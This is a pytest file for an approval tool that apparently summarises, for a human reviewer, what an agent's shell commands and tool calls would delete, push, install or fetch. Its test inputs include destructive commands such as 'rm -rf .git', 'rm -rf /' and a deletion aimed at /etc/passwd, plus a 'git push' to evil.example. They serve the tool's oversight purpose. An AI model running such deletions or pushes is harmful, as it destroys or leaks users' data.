"""What the card says of a delete, a push, an install and a request, worked out from the live tree."""

import pytest

from .conftest import GIT, text_of


def test_a_delete_says_how_much_and_whether_git_has_it(workspace, ask, person):
    found = person.evidence(ask(workspace, "rm -rf d loose.txt nothing /etc/passwd"))["findings"][0]
    assert found["says"] == [
        "Deletes 2 files and 1 folder, 10 bytes.",
        "1 tracked by git, 1 not.",
        "Not there now: nothing.",
        "Outside the workspace, not looked at: /etc/passwd.",
    ]
    assert [name["path"] for name in found["names"]] == ["d/", "loose.txt"]


def test_a_pattern_is_what_the_shell_would_make_of_it(workspace, ask, person):
    found = person.evidence(ask(workspace, "sudo rm *.txt; cd d && rm ../*.txt && curl https://example.org"))[
        "findings"
    ]
    assert [name["path"] for name in found[0]["names"]] == ["a.txt", "loose.txt"]


def test_the_folder_of_a_sub_command_is_its_own(workspace, ask, person):
    action = ask(workspace, "cd d && rm b.txt && curl https://example.org/x")
    findings = person.evidence(action)["findings"]
    assert [(f["line"], f["says"][0]) for f in findings] == [
        (2, "Deletes 1 file, 4 bytes."),
        (3, "GET to example.org."),
    ]


def test_the_history_of_a_repository_is_named(workspace, ask, says):
    assert says(ask(workspace, "rm -rf .git && curl example.org"))[1].endswith("its history goes as well.")


def test_git_clean_says_what_git_would_remove(workspace, ask, person):
    found = person.evidence(ask(workspace, "git clean -fd && curl example.org"))["findings"][0]
    assert found["says"] == ["Deletes 1 file, 6 bytes.", "Not tracked by git."]
    assert [name["path"] for name in found["names"]] == ["loose.txt"]


def test_a_push_says_where_which_commits_and_how_much(desk, ask, person):
    key = desk.create()["key"]
    desk.run(
        key,
        f"git init -q -b main && git init -q --bare ../home/agent/r || true; git init -q --bare /home/agent/r; "
        f"git remote add origin /home/agent/r && echo 1 > a && {GIT} add . && {GIT} commit -qm one && "
        f"git push -q origin main && echo 2 >> a && {GIT} commit -qam 'two <b>' && "
        "git remote set-url --push origin https://mia:secret@git.example.org/x.git",
    )
    found = person.evidence(ask(key, "git push origin main"))["findings"][0]
    assert found["says"] == [
        "Goes to origin: https://mia:•••@git.example.org/x.git",
        "Branch main: 1 commit, 1 file, +1 −0.",
    ]
    assert [commit["subject"] for commit in found["commits"]] == ["two <b>"]
    assert found["files"] == [{"path": "a", "additions": 1, "deletions": 0}]
    unknown = person.evidence(ask(key, "git push https://evil.example/x main"))["findings"][0]["says"][0]
    assert unknown == "Goes to https://evil.example/x, which is no remote that this repository knows."
    desk.run(key, f"{GIT} commit -q --amend -m other && git update-ref refs/remotes/origin/main HEAD")
    desk.run(key, "git reset -q --hard HEAD~1")
    forced = person.evidence(ask(key, "git push --force origin main"))["findings"][0]["says"]
    assert "1 commit that main had are not in it and would go." in forced


@pytest.mark.parametrize(
    ("command", "said"),
    [
        (
            "pip install requests==2.3 flask -r dev.txt --index-url https://e.org/simple",
            [
                "Installs 2 packages with pip, and what they need.",
                "Installs what is named in dev.txt.",
                "From https://e.org/simple.",
                "Versions are chosen when it runs.",
            ],
        ),
        ("npm install left-pad@1.3.0", ["Installs 1 package with npm, and what they need."]),
        ("npm ci", ["Installs what the project's own files name for npm.", "Versions are chosen when it runs."]),
        ("gem install rails -v 7.1", ["Installs 1 package with gem, and what they need."]),
        (
            "curl -X PUT -d 'a=b' https://api.example.com/x",
            ["PUT to api.example.com.", "Sends 3 bytes that stand in the command."],
        ),
        ("curl -T a.txt https://e.org", ["PUT to e.org.", "Sends the file a.txt, 4 bytes now."]),
        ("wget -q http://e.org/f -O out", ["GET to e.org."]),
    ],
)
def test_installs_and_requests_are_read_from_the_command(workspace, ask, says, command, said):
    assert says(ask(workspace, command)) == said


def test_a_fetch_names_its_host(desk, workspace, says):
    body = {"tool": "WebFetch", "arguments": {"url": "https://e.org/x", "prompt": "p"}, "workspace": workspace}
    assert says(desk.post("/actions", body).json) == ["GET to e.org.", "Sends the address, 15 characters."]


def test_of_everything_else_nothing_is_known(desk, workspace, says):
    body = {"tool": "mcp__issues__create", "arguments": {"title": "rm -rf /"}, "workspace": workspace}
    assert says(desk.post("/actions", body).json) == ["Not known before it runs."]


def test_a_workspace_that_goes_to_the_trash_is_weighed(desk, person, workspace):
    action = desk.call("DELETE", f"/workspaces/{workspace}", None, 202).json["action"]
    said = person.evidence(action)["findings"][0]["says"]
    assert said[0].startswith("Moves ")


def test_the_card_comes_first_and_the_evidence_after_it(workspace, ask, person):
    action = ask(workspace, "rm d/b.txt && curl https://example.org")
    card = person.page(f"/actions/{action['id']}/")
    assert f'hx-get="/actions/{action["id"]}/evidence/"' in card
    assert "Approve" in card
    part = person.page(f"/actions/{action['id']}/evidence/", **{"HX-Request": "true"})
    assert part.startswith("<section")
    assert "Deletes 1 file, 4 bytes." in text_of(part)
    assert "Deletes 1 file, 4 bytes." in text_of(person.page(f"/actions/{action['id']}/evidence/"))


def test_a_stranger_reads_no_evidence(workspace, ask, product):
    other = product.agent_token("another-agent")
    assert product.get(f"/api/v1/actions/{ask(workspace, 'curl e.org')['id']}/evidence", other).status == 404
